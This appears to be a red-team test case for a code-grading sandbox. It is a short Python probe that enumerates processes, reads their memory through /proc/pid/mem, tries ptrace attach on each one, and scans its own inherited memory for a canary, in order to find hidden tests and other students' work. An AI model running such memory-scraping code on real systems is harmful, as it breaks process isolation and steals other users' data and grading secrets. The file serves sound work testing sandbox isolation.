# goal: hidden tests and other students' work, in the memory of other processes
# technique: /proc/*/mem, process_vm_readv and ptrace on every process it can see
# lab: m01_mini
# base: wrong
# expect: graded, student code raised, killed
# needs: sandbox
# %%
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
reached = []
for pid in [int(name) for name in os.listdir("/proc") if name.isdecimal() and int(name) != os.getpid()]:
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
            start, end = (int(part, 16) for part in maps.readline().split()[0].split("-"))
            memory.seek(start)
            reached.append(("mem", pid, memory.read(16)))
    except OSError:
        pass
    if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
        reached.append(("ptrace", pid))
        libc.ptrace(17, pid, 0, 0)
others = [entry for entry in reached if entry[1] not in (1, os.getppid())]
with open("/proc/self/mem", "rb") as own, open("/proc/self/maps") as maps:  # what the fork inherited
    for line in maps:
        if " rw" in line and "[v" not in line:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            try:
                own.seek(start)
                data = own.read(min(end - start, 1 << 26))
            except (OSError, ValueError):
                continue
            if b"canary-" + b"0123"[:0] in data.replace(b'b"canary-"', b"") and b'CANARY = "' in data:
                reached.append(("inherited", line))
if others:
    raise ValueError(f"RECORDED {others}")
